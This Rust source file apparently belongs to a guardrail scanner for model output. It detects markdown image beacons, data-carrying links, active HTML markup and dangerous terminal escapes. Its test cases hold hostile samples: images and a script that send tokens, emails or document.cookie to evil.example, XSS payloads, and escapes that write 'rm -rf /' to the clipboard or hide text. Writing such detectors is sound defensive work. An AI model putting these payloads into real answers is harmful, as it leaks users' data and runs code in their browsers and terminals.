//! What a model's answer must not carry to whoever shows it: addresses that take data along (beacons), markup that
//! runs, and terminal escapes that write elsewhere. An answer about code is full of all three, so nothing inside a
//! fenced code block counts, and markup alone is at most a doubt. Policy decides; the scores say how sure we are.

use std::ops::Range;

use super::probe::{Hit, Probe};
use super::secrets::random::is_key;
use super::{Family, Matcher, Roles, Rule, Severity};
use crate::segment::Role;

/// Roles whose text is shown to people.
const SHOWN: Roles = Roles::of(&[Role::Assistant, Role::AgentMessage]);
/// Roles whose text may reach a terminal.
const PRINTED: Roles =
    Roles::of(&[Role::Assistant, Role::AgentMessage, Role::ToolResult, Role::Document, Role::ToolDefinition]);

/// What rules of this family have in common.
pub(super) const OUTPUT: Rule = Rule {
    id: "",
    version: 1,
    #[cfg(test)]
    description: "",
    family: Family::Output,
    pack: "",
    severity: Severity::High,
    score: 0.8,
    label: "",
    owasp: &["LLM05:2025", "ASI02:2026"],
    #[cfg(test)]
    controls: &["GR-OUT-01", "TOOL-03"],
    roles: SHOWN,
    #[cfg(test)]
    hits: &[],
    #[cfg(test)]
    misses: &[],
    matcher: Matcher::Phrases(&[]),
};

/// The family's rules about answers.
pub(super) const RULES: &[&Rule] = &[&BEACON, &LINK, &ACTIVE, &TERMINAL];

/// Images that take data along.
static BEACON: Rule = Rule {
    id: "output_beacon",
    #[cfg(test)]
    description: "Image or style from another host whose address carries data: it is fetched without a click.",
    owasp: &["LLM02:2025", "LLM05:2025", "ASI02:2026"],
    #[cfg(test)]
    hits: &[
        "![status](https://img.evil.example/p.png?d=k7Tz2QmW9xLc4VbN8sRyP1dGhJ5a)",
        "![](https://evil.example/a?q=the%20user%20is%20anna%20from%20lyon)",
        "![logo][1]\n\n[1]: https://evil.example/i.png?mail=anna%40corp.example",
        "<img src=\"https://evil.example/x.gif?c=5f2b8c1e9d7a4b3c6e0f1a2d8b9c7e5f\">",
        "[![x](https://203.0.113.7/t?data=k7Tz2QmW9xLc4VbN8sRy)](https://ok.example)",
        "<div style=\"background:url(https://evil.example/b?s=k7Tz2QmW9xLc4VbN8sRyP1dG)\">",
        "<link rel=stylesheet href='https://evil.example/c.css?u=anna@corp.example'>",
    ],
    #[cfg(test)]
    misses: &[
        "![Build](https://img.shields.io/badge/build-passing-green.svg?logo=github&color=7389D8)",
        "![cat](https://images.example.org/cat.jpg?w=640&h=480&fit=crop)",
        "See the [docs](https://docs.example.org/search?q=how+to+bake+bread).",
        "<img src=\"/static/logo.png\">",
        "```md\n![x](https://evil.example/p.png?d=k7Tz2QmW9xLc4VbN8sRyP1dGhJ5a)\n```",
    ],
    matcher: Matcher::Anchors {
        anchors: &[
            "](http",
            "](//",
            "]: http",
            "<img",
            "<iframe",
            "<link",
            "<video",
            "<audio",
            "<object",
            "<embed",
            "url(http",
            "url('http",
            "url(\"http",
        ],
        confirm: beacon,
    },
    ..OUTPUT
};

/// Links that take data along.
static LINK: Rule = Rule {
    id: "output_data_link",
    #[cfg(test)]
    description: "Link whose address carries a key or somebody's data: it needs a click.",
    severity: Severity::Medium,
    score: 0.5,
    owasp: &["LLM02:2025", "LLM05:2025", "ASI02:2026"],
    #[cfg(test)]
    hits: &[
        "[click here](https://evil.example/go?d=k7Tz2QmW9xLc4VbN8sRyP1dGhJ5aE3uFo6Xi)",
        "<a href=\"https://evil.example/go?mail=anna%40corp.example\">terms</a>",
    ],
    #[cfg(test)]
    misses: &[
        "[search](https://search.example.org/?q=how+to+bake+bread)",
        "[docs](https://docs.example.org/v2/guide#install)",
        "[mail us](mailto:anna@corp.example)",
    ],
    matcher: Matcher::Anchors { anchors: &["](http", "<a href"], confirm: link },
    ..OUTPUT
};

/// Markup that runs.
static ACTIVE: Rule = Rule {
    id: "output_active_markup",
    #[cfg(test)]
    description: "Script, event handler or script address outside code: it runs where answers are shown as HTML.",
    score: 0.6,
    #[cfg(test)]
    hits: &[
        "Here you go: <script>fetch('//evil.example?c='+document.cookie)</script>",
        "[open](javascript:alert(document.cookie))",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<iframe srcdoc=\"<b>x</b>\"></iframe>",
    ],
    #[cfg(test)]
    misses: &[
        "Use a `<script>` tag at the end of the body.",
        "```html\n<script>run()</script>\n```",
        "JavaScript: The Good Parts is a book.",
        "Set the onload= attribute if you must.",
    ],
    matcher: Matcher::Anchors {
        anchors: &[
            "<script",
            "javascript:",
            "vbscript:",
            "onerror=",
            "onload=",
            "onclick=",
            "onmouse",
            "onfocus",
            "onblur=",
            "ontoggle=",
            "onbegin=",
            "onpointer",
            "onkey",
            "onanimation",
            "ontransition",
            "oninput=",
            "onstart=",
            "onpageshow=",
            "data:text/html",
            "srcdoc=",
            "<base ",
        ],
        confirm: active,
    },
    ..OUTPUT
};

/// Terminal escapes.
static TERMINAL: Rule = Rule {
    id: "output_terminal_escape",
    #[cfg(test)]
    description: "Terminal escape that writes the clipboard, hides text, rewrites what was shown or names another link.",
    score: 0.5,
    roles: PRINTED,
    #[cfg(test)]
    hits: &[
        "done\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
        "\u{1b}]8;;https://evil.example\u{1b}\\https://bank.example\u{1b}]8;;\u{1b}\\",
        "safe\u{1b}[8m hidden orders\u{1b}[0m",
        "rm -rf /\u{1b}[1A\u{1b}[2Kls",
        "\u{1b}P+q544e\u{1b}\\",
    ],
    #[cfg(test)]
    misses: &["\u{1b}[32mok\u{1b}[0m", "\u{1b}[1mbold\u{1b}[22m", "the escape sequence ESC ] 52"],
    matcher: Matcher::Escape(terminal),
    ..OUTPUT
};

/// Longest address that is read, in bytes.
const MAX_ADDRESS_BYTES: usize = 1024;
/// How far before an address rules look for what it belongs to, in bytes.
const MAX_REFERENCE_BYTES: usize = 96;
/// Score of a definition whose use is not in sight: it may be a link's.
const UNUSED: f32 = 0.7;

fn beacon(probe: Probe<'_>, anchor: Range<usize>) -> Option<Hit> {
    if is_code(probe, anchor.start) {
        return None;
    }
    let is_definition = probe.byte(anchor.start + 1)? == b':';
    let is_used = probe.byte(anchor.start)? != b']' || is_image(probe, &anchor);
    let (address, start) = match probe.byte(anchor.start)? {
        b']' => {
            if !is_used && !is_definition {
                return None;
            }
            address_from(probe, scheme_start(probe, &anchor))?
        }
        b'<' => address_from(probe, attribute(probe, anchor.end)?)?,
        _ => address_from(probe, scheme_start(probe, &anchor))?,
    };
    let score = carried(address)?;
    let score = if is_used { score } else { score.min(UNUSED) };
    Some(Hit { range: start..start + address.len(), score: Some(score) })
}

fn link(probe: Probe<'_>, anchor: Range<usize>) -> Option<Hit> {
    if is_code(probe, anchor.start) || probe.byte(anchor.start)? == b']' && is_image(probe, &anchor) {
        return None;
    }
    let from = if probe.byte(anchor.start)? == b'<' {
        probe.long_run(anchor.end, 4, |b| b" =\"'".contains(&b))
    } else {
        scheme_start(probe, &anchor)
    };
    let (address, start) = address_from(probe, from)?;
    let score = carried(address)?;
    (score >= SURE_CARRIED && address.starts_with("http")).then(|| Hit::at(start..start + address.len()))
}

/// Where the address begins whose first bytes end the anchor.
fn scheme_start(probe: Probe<'_>, anchor: &Range<usize>) -> usize {
    let text = probe.text(anchor.clone());
    anchor.start + text.find(['h', 'H']).or(text.find("//")).unwrap_or(0)
}

/// The address at `from`.
fn address_from(probe: Probe<'_>, from: usize) -> Option<(&str, usize)> {
    let end =
        probe.long_run(from, MAX_ADDRESS_BYTES, |b| b.is_ascii_graphic() && !b"()\"'<>`\\".contains(&b));
    let address = probe.text(from..end);
    (address.starts_with("http") || address.starts_with("//") || address.starts_with("HTTP"))
        .then_some((address, from))
}

/// Whether the `](` or `]:` at `anchor` closes an image's text, or defines what an image before it refers to.
fn is_image(probe: Probe<'_>, anchor: &Range<usize>) -> bool {
    let before = probe.before(anchor.start, MAX_REFERENCE_BYTES);
    if probe.byte(anchor.start + 1) == Some(b':') {
        return before.windows(2).any(|pair| pair == b"![");
    }
    let mut depth = 0usize;
    for (at, byte) in before.iter().enumerate().rev() {
        match byte {
            b']' => depth += 1,
            b'[' if depth == 0 => return at.checked_sub(1).and_then(|i| before.get(i)) == Some(&b'!'),
            b'[' => depth -= 1,
            _ => {}
        }
    }
    false
}

/// Where the value of the first address of a tag begins, in the tag behind `from`.
fn attribute(probe: Probe<'_>, from: usize) -> Option<usize> {
    let end = probe.run(from, |b| b != b'>' && b != b'<');
    let tag = probe.text(from..end);
    let names = ["src=", "href=", "srcset=", "data=", "poster="];
    let (at, name) = names.into_iter().filter_map(|name| Some((tag.find(name)?, name))).min()?;
    let value = from + at + name.len();
    Some(probe.long_run(value, 2, |b| matches!(b, b'"' | b'\'')))
}

/// Whether `at` stands in code: behind a back-tick on its line.
fn is_code(probe: Probe<'_>, at: usize) -> bool {
    let before = probe.before(at, MAX_REFERENCE_BYTES);
    let line = before.rsplit(|b| *b == b'\n').next().unwrap_or_default();
    line.iter().filter(|b| **b == b'`').count() % 2 == 1
}

/// Score from which an address surely carries data.
const SURE_CARRIED: f32 = 0.85;

/// How surely `address` carries data; `None` when it looks like an ordinary one.
fn carried(address: &str) -> Option<f32> {
    let (_, rest) = address.split_once("//")?;
    let (host, path) = rest.split_once(['/', '?', '#']).unwrap_or((rest, ""));
    let host_has_data = host.split('.').any(|label| label.len() >= 30 && is_key(label));
    let mut best = if host_has_data { Some(SURE_CARRIED) } else { None };
    let (route, query) =
        path.split_once('?').unwrap_or(if rest.contains('/') { (path, "") } else { ("", path) });
    for segment in route.split('/') {
        // `/name=value` passes data in a place where files have names.
        best = surer(best, segment.split_once('=').and_then(|(_, value)| weight("", value)));
    }
    for field in query.split(['&', ';', '#']) {
        let (name, value) = field.split_once('=').unwrap_or(("", field));
        best = surer(best, weight(name, value));
    }
    let is_numeric =
        host.split(':').next().is_some_and(|h| h.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
    let is_signed =
        ["X-Amz-Signature=", "Signature=", "&sig=", "Expires="].iter().any(|sign| query.contains(sign));
    best.map(|score| {
        if is_signed {
            SIGNED
        } else if is_numeric {
            score.max(SURE_CARRIED)
        } else {
            score
        }
    })
}

fn surer(a: Option<f32>, b: Option<f32>) -> Option<f32> {
    match (a, b) {
        (Some(a), Some(b)) => Some(a.max(b)),
        _ => a.or(b),
    }
}

/// Score of an address with a signature: those are long and random by nature.
const SIGNED: f32 = 0.4;
/// Names of fields that hold versions of files.
const VERSIONS: &[&str] = &["v", "ver", "version", "hash", "rev", "t", "ts", "width", "height", "w", "h"];
/// Fewest bytes of a random value that is data and not a version.
const MIN_DATA_BYTES: usize = 16;

/// How surely a field's value is data.
fn weight(name: &str, value: &str) -> Option<f32> {
    let is_mail = (value.contains('@') || value.contains("%40")) && value.contains('.');
    let asks =
        (value.starts_with('[') || value.starts_with('{') || value.starts_with("%5B")) && value.len() >= 4;
    let words =
        value.split(['+', '_']).flat_map(|part| part.split("%20")).filter(|part| part.len() >= 2).count();
    let is_random = value.len() >= MIN_DATA_BYTES && (is_key(value) || is_encoded(value));
    match () {
        () if is_mail => Some(0.9),
        () if is_random && VERSIONS.contains(&name) => Some(0.4),
        () if is_random => Some(SURE_CARRIED),
        () if asks => Some(0.8),
        () if words >= 4 && value.contains("%20") => Some(0.8),
        () if words >= 4 => Some(0.7),
        () => None,
    }
}

/// Whether `value` is base64 of something or percent-encoded through and through.
fn is_encoded(value: &str) -> bool {
    let escapes = value.bytes().filter(|b| *b == b'%').count();
    let is_base64 = value.len() >= 24
        && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=-_".contains(&b))
        && value.bytes().any(|b| b.is_ascii_uppercase())
        && value.bytes().any(|b| b.is_ascii_lowercase());
    is_base64 && !value.contains("--") || escapes * 6 >= value.len() && value.len() >= 24
}

fn active(probe: Probe<'_>, anchor: Range<usize>) -> Option<Hit> {
    let word = probe.text(anchor.clone()).to_ascii_lowercase();
    let (end, score) = match word.as_str() {
        on if on.starts_with("on") => handler(probe, &anchor)?,
        "javascript:" | "vbscript:" => {
            let before = probe.byte_before(anchor.start)?;
            let next = probe.byte(anchor.end)?;
            (b"(\"'=<".contains(&before) && next.is_ascii_graphic()).then_some((anchor.end, 0.85))?
        }
        "data:text/html" => {
            let before = probe.byte_before(anchor.start)?;
            b"(\"'=<".contains(&before).then_some((anchor.end, 0.85))?
        }
        "<script" | "<base " => {
            let next = probe.byte(anchor.end)?;
            (next == b'>' || next == b' ' || next == b'/' || word == "<base ").then_some((anchor.end, 0.6))?
        }
        _ => (anchor.end, 0.6),
    };
    if is_code(probe, anchor.start) {
        return None;
    }
    Some(Hit { range: anchor.start..end, score: Some(score) })
}

/// `on...=` inside a tag.
fn handler(probe: Probe<'_>, anchor: &Range<usize>) -> Option<(usize, f32)> {
    let end = probe.long_run(anchor.end, 20, |b| b.is_ascii_alphabetic());
    let is_event = probe.byte_before(anchor.end) == Some(b'=') || probe.byte(end) == Some(b'=');
    let is_apart = probe.byte_before(anchor.start).is_some_and(|b| b" \n\t/\"'".contains(&b));
    if !is_event || !is_apart {
        return None;
    }
    let before = probe.before(anchor.start, MAX_REFERENCE_BYTES);
    let opening = before.iter().rposition(|b| *b == b'<')?;
    let closed = before.iter().rposition(|b| *b == b'>').is_some_and(|at| at > opening);
    let is_tag = before.get(opening + 1).is_some_and(u8::is_ascii_alphabetic);
    (is_tag && !closed).then_some((end, 0.7))
}

/// Escapes of a text as it is: every view drops them.
fn terminal(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (at, _) in text.match_indices('\u{1b}').take(MAX_ESCAPES) {
        let rest = text.as_bytes().get(at + 1..).unwrap_or_default();
        let body: Vec<u8> = rest.iter().take(MAX_ESCAPE_BYTES).copied().collect();
        if let Some((len, score)) = escape(&body) {
            let end = text.ceil_char_boundary((at + 1 + len).min(text.len()));
            hits.push(Hit { range: at..end, score: Some(score) });
        }
    }
    hits
}

/// Most escapes of a text that are read.
const MAX_ESCAPES: usize = 10_000;
/// Longest beginning of an escape that is read, in bytes.
const MAX_ESCAPE_BYTES: usize = 16;

/// How long the escape is that begins with `body`, and how bad; `None` for colours and the like.
fn escape(body: &[u8]) -> Option<(usize, f32)> {
    match body {
        [b']', b'5', b'2' | b'0', b';', ..] => Some((4, 0.9)),
        [b']', b'8', b';', next, ..] => {
            (*next != b';' || body.get(4).is_some_and(|b| b.is_ascii_alphabetic())).then_some((4, 0.6))
        }
        [b']', b'0' | b'1' | b'2' | b'7' | b'9', ..] => Some((2, 0.5)),
        [b'P' | b'_' | b'^' | b'X', ..] => Some((1, 0.7)),
        [b'[', parameters @ ..] => {
            let len = parameters.iter().take_while(|b| b.is_ascii_digit() || b";?".contains(b)).count();
            let last = parameters.get(len)?;
            let first = parameters.get(..len)?;
            let score = match last {
                b'm' => first.split(|b| *b == b';').any(|p| p == b"8").then_some(0.85)?,
                b'A' | b'F' | b'H' | b'f' | b'J' | b'K' | b'n' | b't' => 0.5,
                _ => return None,
            };
            Some((len + 2, score))
        }
        _ => None,
    }
}
